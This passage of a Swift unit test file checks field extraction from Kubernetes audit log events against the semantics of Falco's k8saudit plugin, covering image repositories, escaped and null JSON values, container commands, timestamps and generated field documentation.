        XCTAssertNil(values("ka.exec.command", nil, event(#""requestURI":"/exec""#)))
    }

    func testImageRepository() {
        let images: [(String, String)] = [
            ("nginx", "nginx"), ("nginx:1.25", "nginx"), ("nginx@sha256:abc", "nginx"), ("nginx:1.25@sha256:abc", "nginx"),
            ("docker.io/falcosecurity/falco:0.38.0", "docker.io/falcosecurity/falco"),
            ("registry:5000/app:tag", "registry:5000/app"), ("registry:5000/app", "registry:5000/app"),
            ("registry:5000/team/app@sha256:1", "registry:5000/team/app"), ("", ""), (":tag", ""),
        ]
        for (image, repository) in images {
            let e = event(#""requestObject":{"spec":{"containers":[{"image":"\#(image)"}]}}"#)
            XCTAssertEqual(values("ka.req.pod.containers.image.repository", nil, e), [repository], image)
            XCTAssertEqual(values("ka.req.container.image.repository", nil, e), [repository], image)
        }
        // An escaped image is decoded before it is cut.
        let escaped = event(#""requestObject":{"spec":{"initContainers":[{"image":"r\u003a5000\/a\u003at"}]}}"#)
        XCTAssertEqual(values("ka.req.pod.initContainers.image.repository", nil, escaped), ["r:5000/a"])
        XCTAssertEqual(values("ka.req.pod.initContainers.image", nil, escaped), ["r:5000/a:t"])
    }

    func testEscapesAndNonStringValues() {
        let e = event(#""verb":"g\u0065t","user":{"username":"sys\u0074em:admin","groups":["a\"b",7,null,{"x":[1]}]},"objectRef":{"resource":"p\u006fds","name":"a\\b\n"},"responseStatus":{"code":403.0}"#)
        XCTAssertEqual(values("ka.verb", nil, e), ["get"])
        XCTAssertEqual(values("ka.user.name", nil, e), ["system:admin"])
        XCTAssertEqual(values("ka.user.groups", nil, e), ["a\"b", "7", #"{"x":[1]}"#])   // null elements dropped
        XCTAssertEqual(values("ka.target.resource", nil, e), ["pods"])
        XCTAssertEqual(values("ka.target.name", nil, e), ["a\\b\n"])
        XCTAssertEqual(values("ka.response.code", nil, e), ["403.0"])
        XCTAssertEqual(values("jevt.value", "/objectRef/resource", e), ["pods"])
        // Null values are missing values.
        let n = event(#""verb":null,"user":{"username":null,"groups":null},"requestObject":{"spec":{"hostNetwork":null}}"#)
        XCTAssertNil(values("ka.verb", nil, n))
        XCTAssertNil(values("ka.user.name", nil, n))
        XCTAssertNil(values("ka.user.groups", nil, n))
        XCTAssertNil(values("ka.req.pod.host_network", nil, n))
        XCTAssertNil(values("jevt.value", "/verb", n))
        // Wrong shapes give no values rather than garbage.
        let w = event(#""user":{"groups":"not-a-list"},"sourceIPs":"1.2.3.4","requestObject":{"spec":{"containers":{"name":"x"}}}"#)
        XCTAssertNil(values("ka.user.groups", nil, w))
        XCTAssertNil(values("ka.sourceips", nil, w))
        XCTAssertNil(values("ka.sourceip", nil, w))
        XCTAssertNil(values("ka.req.pod.containers.name", nil, w))
        XCTAssertNil(values("ka.req.container.privileged", nil, w))
    }

    func testJoinedCommandsAndArgs() {
        let e = event(#"""
        "requestObject":{"spec":{"containers":[{"command":["/bin/sh","-c","echo a\u0020b"],"args":[]},{"name":"none"},\#
        {"command":["x",1,true,null,"y"],"args":"not-a-list"}]}}
        """#)
        XCTAssertEqual(values("ka.req.pod.containers.command", nil, e), ["/bin/sh -c echo a b", "x 1 true y"])
        XCTAssertEqual(values("ka.req.pod.containers.command", "2", e), ["x 1 true y"])
        XCTAssertEqual(values("ka.req.pod.containers.args", nil, e), [""])    // an empty list is an empty command line
    }

    func testBugFixes() {
        // ka.sourceips reads the top-level sourceIPs (Falco reads requestObject.rules[*].sourceIPs).
        let s = event(#""sourceIPs":["1.1.1.1"],"requestObject":{"rules":[{"sourceIPs":["9.9.9.9"]}]}"#)
        XCTAssertEqual(values("ka.sourceips", nil, s), ["1.1.1.1"])
        // eff_run_as_* read the security contexts (Falco reads spec.runAsUser and containers[*].runAsUser).
        let p = event(#"""
        "requestObject":{"spec":{"runAsUser":5,"securityContext":{"runAsUser":1000},\#
        "containers":[{"runAsUser":6},{"securityContext":{"runAsUser":2000,"runAsGroup":3}}]}}
        """#)
        XCTAssertEqual(values("ka.req.pod.containers.eff_run_as_user", nil, p), ["1000", "2000"])
        XCTAssertEqual(values("ka.req.pod.containers.eff_run_as_group", nil, p), ["0", "3"])
        XCTAssertEqual(values("ka.req.pod.containers.eff_run_as_group", "5", p), nil)
        // has_name looks at the subjects (Falco always says "true").
        XCTAssertEqual(values("ka.req.binding.subject.has_name", "x", event(#""requestObject":{"subjects":[]}"#)), ["false"])
        // The repository of an image on a registry with a port keeps the port.
        XCTAssertEqual(values("ka.req.pod.containers.image.repository", nil,
                              event(#""requestObject":{"spec":{"containers":[{"image":"localhost:5000/app:v1"}]}}"#)), ["localhost:5000/app"])
    }

    func testKeptFalcoSemantics() {
        // host_port falls back to containerPort; add_capabilities is one JSON list per container.
        let p = event(#"""
        "requestObject":{"spec":{"containers":[{"ports":[{"containerPort":80},{"hostPort":8443,"containerPort":443},{"name":"x"}],\#
        "securityContext":{"capabilities":{"add":["A","B"],"drop":["ALL"]}}},{"securityContext":{"capabilities":{"add":[]}}}]}}
        """#)
        XCTAssertEqual(values("ka.req.pod.containers.host_port", nil, p), ["80", "8443"])
        XCTAssertEqual(values("ka.req.pod.containers.add_capabilities", nil, p), [#"["A","B"]"#, "[]"])
        XCTAssertEqual(values("ka.req.pod.containers.add_capabilities", "1", p), ["[]"])
        // ka.req.container.privileged is false (not missing) when no container says privileged.
        XCTAssertEqual(values("ka.req.container.privileged", nil, event(#""requestObject":{"spec":{"containers":[{}]}}"#)), ["false"])
        XCTAssertEqual(values("ka.req.container.privileged", nil, event(#""requestObject":{"spec":{"containers":[{"securityContext":{"privileged":"true"}}]}}"#)), ["false"])
    }

    func testTimes() {
        func time(_ members: String) -> [String?] {
            let e = event(members)
            return [values("jevt.rawtime", nil, e)?.first, values("evt.time", nil, e)?.first]
        }
        XCTAssertEqual(time(#""stageTimestamp":"2026-11-23T12:00:01.5+02:00""#), ["1795428001500000000", "2026-11-23T10:00:01.500000000Z"])
        XCTAssertEqual(time(#""requestReceivedTimestamp":"2026-11-23T10:00:00Z""#), ["1795428000000000000", "2026-11-23T10:00:00.000000000Z"])
        XCTAssertEqual(time(#""stageTimestamp":"1969-12-31T23:59:59.5Z""#), ["-500000000", "1969-12-31T23:59:59.500000000Z"])
        XCTAssertEqual(time(#""stageTimestamp":"1970-01-01T00:00:00Z""#), ["0", "1970-01-01T00:00:00.000000000Z"])
        XCTAssertEqual(time(#""stageTimestamp":"2000-03-01T00:00:00.000000001Z""#), ["951868800000000001", "2000-03-01T00:00:00.000000001Z"])
        // The ends of the range of nanoseconds in an Int64.
        XCTAssertEqual(time(#""stageTimestamp":"2262-04-11T23:47:16.854775807Z""#), ["9223372036854775807", "2262-04-11T23:47:16.854775807Z"])
        XCTAssertEqual(time(#""stageTimestamp":"1677-09-22T00:00:00Z""#)[1], "1677-09-22T00:00:00.000000000Z")
        XCTAssertEqual(time(#""stageTimestamp":"not a time""#), [nil, nil])
        XCTAssertEqual(time(#""verb":"get""#), [nil, nil])
        // Every day over a few years round-trips through the date conversion.
        var day = Date(timeIntervalSince1970: -86_400 * 800)
        let formatter = ISO8601DateFormatter()
        formatter.timeZone = TimeZone(identifier: "UTC")
        for _ in 0..<2000 {
            let text = formatter.string(from: day)          // 1967-…T00:00:00Z
            let expected = text.replacingOccurrences(of: "Z", with: ".000000000Z")
            XCTAssertEqual(time(#""stageTimestamp":""# + text + #"""#)[1], expected)
            day += 86_400 * 3 + 3_661
        }
    }

    func testArenaReuseAcrossEvents() {
        // One arena and output reused for many events, as the evaluator does: values stay correct.
        let registry = FieldRegistry.standard
        let field = registry.lookup("ka.exec.command")!
        let arena = ScratchArena(blockSize: 128)
        var output = FieldOutput(arena: arena)
        let tape = JSONTape()
        for i in 0..<200 {
            let json = event(#""requestURI":"/api/v1/namespaces/d/pods/p/exec?command=echo\u0026command=n%3D\#(i)""#)
            let bytes = Array(json.utf8)
            bytes.withUnsafeBytes { raw in
                try! tape.parse(raw)
                arena.reset()
                output.removeAll()
                field.extract(AuditEvent(root: tape.root), .none, &output)
                XCTAssertEqual(output.values.map { String(decoding: $0, as: UTF8.self) }, ["echo n=\(i)"])
            }
        }
    }

    /// All 100 fields of Falco's k8saudit plugin (reference/falco/fields.md) are registered with the same
    /// list-ness and argument kind.
    func testFalcoFieldTableIsImplemented() throws {
        let url = sharedDirectory.appendingPathComponent("reference/falco/fields.md")
        guard FileManager.default.fileExists(atPath: url.path) else { throw XCTSkip("\(url.path) not present") }
        let text = try String(contentsOf: url, encoding: .utf8)
        var count = 0
        for line in text.split(separator: "\n") where line.hasPrefix("| `ka.") {
            let columns = line.split(separator: "|", omittingEmptySubsequences: false).map { $0.trimmingCharacters(in: .whitespaces) }
            let name = columns[1].trimmingCharacters(in: CharacterSet(charactersIn: "`"))
            let isList = columns[2] == "yes"
            let argument = columns[3]
            count += 1
            guard let d = FieldRegistry.standard.lookup(name) else {
                XCTFail("\(name) is not registered")
                continue
            }
            XCTAssertEqual(d.isList, isList, "\(name) list-ness")
            switch argument {
            case "": XCTAssertEqual(d.argument, .none, name)
            case "key (required)": XCTAssertEqual(d.argument, .requiredKey, name)
            case "index (optional)": XCTAssertEqual(d.argument, .optionalIndex, name)
            default: XCTFail("\(name): unknown argument kind '\(argument)'")
            }
        }
        XCTAssertEqual(count, 100)
    }

    /// Runs every field over the real audit logs in shared/data (when present): nothing crashes and the
    /// common fields are there.
    func testRealLogs() throws {
        let url = sharedDirectory.appendingPathComponent("data/real/audit2rbac-demo.log")
        guard FileManager.default.fileExists(atPath: url.path) else { throw XCTSkip("\(url.path) not present") }
        let data = try Data(contentsOf: url)
        let tape = JSONTape()
        let arena = ScratchArena()
        var output = FieldOutput(arena: arena)
        var events = 0
        for line in data.split(separator: UInt8(ascii: "\n")) where !line.isEmpty {
            try Array(line).withUnsafeBytes { raw in
                try tape.parse(raw)
                let e = AuditEvent(root: tape.root)
                events += 1
                for d in FieldRegistry.standard.all {
                    let argument: FieldArgument
                    switch d.argument {
                    case .none, .optionalIndex: argument = .none
                    case .requiredKey: argument = .key("includeUninitialized", JSONKey("includeUninitialized"))
                    case .requiredPointer: argument = .pointer(try JSONPointer("/objectRef/resource"))
                    }
                    arena.reset()
                    output.removeAll()
                    d.extract(e, argument, &output)
                    if d.name == "ka.user.name" || d.name == "ka.verb" || d.name == "ka.auditid" || d.name == "ka.uri.path" {
                        XCTAssertEqual(output.values.count, 1, d.name)
                    }
                    if d.name == "jevt.obj" {
                        XCTAssertEqual(Array(output.values[0]), Array(line), "jevt.obj is the event's own text")
                    }
                }
            }
        }
        XCTAssertGreaterThan(events, 10)
    }

    /// rules/FIELDS.md holds the table generated from the registry. Set AUDITHOUND_WRITE_FIELDS_DOC=1 to
    /// rewrite it after changing fields.
    func testFieldsDocumentIsCurrent() throws {
        let url = packageRoot.appendingPathComponent("rules/FIELDS.md")
        let begin = "<!-- fields-table:begin (generated by FieldTests.testFieldsDocumentIsCurrent) -->\n"
        let end = "<!-- fields-table:end -->"
        let table = fieldsTableMarkdown()
        var text = (try? String(contentsOf: url, encoding: .utf8)) ?? ""
        if ProcessInfo.processInfo.environment["AUDITHOUND_WRITE_FIELDS_DOC"] == "1" {
            if let b = text.range(of: begin), let e = text.range(of: end, range: b.upperBound..<text.endIndex) {
                text.replaceSubrange(b.upperBound..<e.lowerBound, with: table)
            } else {
                text += "\n" + begin + table + end + "\n"
            }
            try text.write(to: url, atomically: true, encoding: .utf8)
        }
        guard let b = text.range(of: begin), let e = text.range(of: end, range: b.upperBound..<text.endIndex) else {
            return XCTFail("rules/FIELDS.md has no generated table (run with AUDITHOUND_WRITE_FIELDS_DOC=1)")
        }
        XCTAssertEqual(String(text[b.upperBound..<e.lowerBound]), table,
                       "rules/FIELDS.md is out of date: run the test with AUDITHOUND_WRITE_FIELDS_DOC=1")
    }
}

/// The field table of rules/FIELDS.md, generated from the registry.
private func fieldsTableMarkdown() -> String {
    let registry = FieldRegistry.standard
    var out = "| field | list | argument | level | meaning |\n|---|---|---|---|---|\n"
    for d in registry.all {
        let argument: String
        switch d.argument {
        case .none: argument = ""
        case .requiredKey: argument = "`[key]` required"
        case .optionalIndex: argument = "`[N]` optional"
        case .requiredPointer: argument = "`[/json/pointer]` required"
        }
        let aliases = registry.aliases.filter { $0.value == d.name }.keys.sorted().map { "`\($0)`" }
        let name = "`\(d.name)`" + (aliases.isEmpty ? "" : " (alias " + aliases.joined(separator: ", ") + ")")
        out += "| \(name) | \(d.isList ? "yes" : "") | \(argument) | \(d.level.name) | \(d.description) |\n"
    }
    return out
}
